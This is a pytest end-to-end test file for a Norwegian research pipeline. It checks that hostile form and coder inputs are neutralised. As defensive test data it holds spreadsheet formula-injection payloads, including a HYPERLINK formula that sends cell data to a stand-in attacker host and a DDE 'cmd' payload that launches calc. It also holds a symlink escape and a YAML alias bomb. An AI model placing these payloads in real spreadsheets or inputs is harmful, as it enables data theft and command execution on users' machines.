"""End to end: a round whose forms and coders carry hostile input runs, and announces what it did.

Forms with formula titles and answers, a form file named like a formula, a 200,000-character
answer, a symbolic link to a file outside the study; coders whose notes start with = + - @.
Afterwards no CSV or workbook under data/processed/ or results/ holds a cell a spreadsheet
would run as a formula (numbers, such as a negative alpha, stay numbers), the long answer is cut
with a notice, the link is rejected, and no leftover table can make a later run fail at parse
time. A hostile study.yaml and an oversized setting stop the run at start with a message.
"""

import subprocess
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from medvirk import codings
from medvirk.io import read_csv
from medvirk.limits import MAX_SECTION_CHARS
from tests.form_builders import ANSWERS, write_pdf, write_table_docx
from tests.spreadsheet_checks import spreadsheet_files, unsafe_cells
from tests.workflow_runs import hand_in, new_round, round_sheet, snakemake

STUDY = "hostile"
RAW = f"data/raw/{STUDY}"
SETTINGS = """\
coding:
  coders: [anne, bo]
  bootstrap_replicates: 20
"""
HYPERLINK = '=HYPERLINK("http://angriper.example/?d="&D5;"Les mer")'
HOSTILE_ANSWERS = {
    **ANSWERS,
    "title": HYPERLINK,
    "aim": "@SUM(1+1)*cmd|' /C calc'!A0",
    "result": "- Kortere ventetid\n=1+1\n+47 912 34 567;-5",
}
FORMULA_FILE = "=HYPERLINK(1).txt"
LONG_ANSWER = " ".join(["brukermedvirkning"] * 12_000)  # 215,999 characters
# What each coder writes in «Andre faktorer» for the example in each row.
NOTES = {
    "anne": ['=HYPERLINK("http://x","y")', "-Jobb;+Bolig", None],
    "bo": ["@SUM(1)", None, "\tTab først"],
}
# F01: anne marks the first example, bo the second: they never agree, so its alpha is negative.
MARKS = {"anne": [(0, "F01"), (1, "F08"), (2, "F08")], "bo": [(1, "F01"), (1, "F08"), (2, "F08")]}

pytestmark = pytest.mark.e2e


def _snakemake(project: Path, *args: str) -> subprocess.CompletedProcess:
    return snakemake(project, *args, study=STUDY)


def _project(tmp_path: Path) -> Path:
    project = tmp_path / "project"
    forms = new_round(project, STUDY, settings=SETTINGS)
    write_table_docx(forms / "formel.docx", HOSTILE_ANSWERS)
    write_pdf(forms / "vanlig.pdf", {**ANSWERS, "title": "Ungdomsråd"})
    (forms / FORMULA_FILE).write_text(
        "Overskrift: Likepersoner\nMål: Bruke erfaring.\nResultat: Bedre hverdag.\n",
        encoding="utf-8",
    )
    (forms / "lang.txt").write_text(
        f"Overskrift: Lang rapport\nMål: Dele erfaring.\nBakgrunn: {LONG_ANSWER}\n",
        encoding="utf-8",
    )
    outside = write_table_docx(tmp_path / "utenfor.docx", {**ANSWERS, "title": "Utenfor studien"})
    (forms / "lenke.docx").symlink_to(outside)
    return project


def _fill_sheets(project: Path) -> list[str]:
    example_ids = []
    for coder in ("anne", "bo"):
        sheet = round_sheet(project, STUDY, coder)
        example_ids = sheet.example_ids
        for position, factor in MARKS[coder]:
            sheet.put(position, factor, "x")
        for position, note in enumerate(NOTES[coder]):
            if note:
                cell = sheet.put(position, "other_factors", note)
                # The column is formatted as text, so Excel keeps what the coder typed as text.
                assert cell.number_format == "@"
                cell.data_type = "s"
        hand_in(sheet, project, STUDY, coder)
    return example_ids


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    return _project(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def sheets_run(project):
    run = _snakemake(project)
    assert run.returncode == 0, run.stderr[-3000:]
    return run


@pytest.fixture(scope="module")
def coded_run(project, sheets_run):
    _fill_sheets(project)
    run = _snakemake(project)
    assert run.returncode == 0, run.stderr[-3000:]
    return run


def test_a_formula_title_is_plain_text_in_every_coding_sheet(project, sheets_run):
    examples = read_csv(project / f"data/processed/{STUDY}/examples.csv")
    assert HYPERLINK in examples["title"].tolist()
    for coder in ("anne", "bo"):
        ws = load_workbook(project / f"results/{STUDY}/coding_sheets/{coder}.xlsx")[codings.SHEET]
        titles = [ws.cell(row=r, column=2) for r in range(codings.FIRST_DATA_ROW, ws.max_row + 1)]
        (cell,) = [c for c in titles if c.value == HYPERLINK]
        assert cell.data_type == "s" and cell.quotePrefix


def test_the_symlink_is_rejected_and_announced_never_read(project, sheets_run):
    rejected = read_csv(project / f"results/{STUDY}/ingest/rejected.csv")
    assert rejected["file"].tolist() == ["lenke.docx"]
    assert "symbolic link is not read" in rejected["reason"].iloc[0]
    examples = read_csv(project / f"data/processed/{STUDY}/examples.csv")
    assert len(examples) == 4 and "Utenfor studien" not in examples["title"].tolist()
    summary = (project / f"results/{STUDY}/run_summary.md").read_text(encoding="utf-8")
    assert f"data/raw/{STUDY}/forms/lenke.docx" in summary


def test_the_long_answer_is_cut_with_a_note_and_a_notice(project, sheets_run):
    records = read_csv(project / f"data/processed/{STUDY}/examples_ingested.csv")
    (row,) = records[records["source_file"] == "lang.txt"].to_dict("records")
    assert len(row["background"]) < MAX_SECTION_CHARS + 200
    assert "Bakgrunn cut to" in row["note"]
    assert row["aim"] == "Dele erfaring."
    summary = (project / f"results/{STUDY}/run_summary.md").read_text(encoding="utf-8")
    assert f"data/raw/{STUDY}/forms/lang.txt" in summary and "Bakgrunn" in summary
    assert "Teksten er forkortet fra 215 999 til" in summary


def test_no_cell_under_processed_or_results_runs_as_a_formula(project, coded_run):
    folders = (project / f"data/processed/{STUDY}", project / f"results/{STUDY}")
    files = spreadsheet_files(*folders)
    assert len(files) >= 20, files
    assert unsafe_cells(*folders) == []


def test_hostile_text_is_kept_as_text_and_reads_back(project, coded_run):
    path = project / f"results/{STUDY}/merge/suggestions.csv"
    assert "'=HYPERLINK(" in path.read_text(encoding="utf-8")
    texts = set(read_csv(path)["text"])
    assert {'=HYPERLINK("http://x","y")', "@SUM(1)", "-Jobb", "+Bolig"} <= texts
    examples = read_csv(project / f"data/processed/{STUDY}/examples.csv")
    assert FORMULA_FILE in examples["source_file"].tolist()


def test_a_negative_alpha_stays_a_number(project, coded_run):
    by_factor = pd.read_csv(project / f"results/{STUDY}/agreement/alpha_by_factor.csv")
    alpha = by_factor.set_index("factor_id").loc["F01", "alpha"]
    assert isinstance(alpha, float) and alpha < 0


# The tests below change the project after the runs above; they come last.


def test_no_leftover_table_makes_a_later_run_fail_at_parse(project, coded_run):
    """A field over the csv module's 131,072 characters in a table read at parse time."""
    processed = project / f"data/processed/{STUDY}"
    examples = processed / "examples.csv"
    kept = examples.read_bytes()
    try:
        examples.write_text('example_id,text\nex-1,"' + "x" * 200_000 + '"\n', encoding="utf-8")
        run = _snakemake(project, "--dry-run")
        assert run.returncode == 0, run.stderr[-3000:]
    finally:
        examples.write_bytes(kept)


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        (
            "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n",
            "line 2: YAML aliases (*name) are not allowed",
        ),
        (
            "coding:\n  coders: [anne, bo]\n  bootstrap_replicates: 100000000\n",
            "coding.bootstrap_replicates = «100000000»: må være høyst 10000 / must be at most 10000",
        ),
        (
            "merge:\n  sweep_step: 0.000001\n",
            "merge.sweep_step = «1e-06»: må være minst 0.01 / must be at least 0.01",
        ),
    ],
)
def test_a_hostile_or_oversized_setting_stops_the_run_at_start(project, settings, message):
    study_yaml = project / RAW / "study.yaml"
    kept = study_yaml.read_bytes()
    try:
        study_yaml.write_text(settings, encoding="utf-8")
        run = _snakemake(project, "--dry-run")
        output = run.stdout + run.stderr
        assert run.returncode != 0
        assert message in output
        assert (
            f"data/raw/{STUDY}/study.yaml" in output or "innstillingene kan ikke brukes" in output
        )
    finally:
        study_yaml.write_bytes(kept)
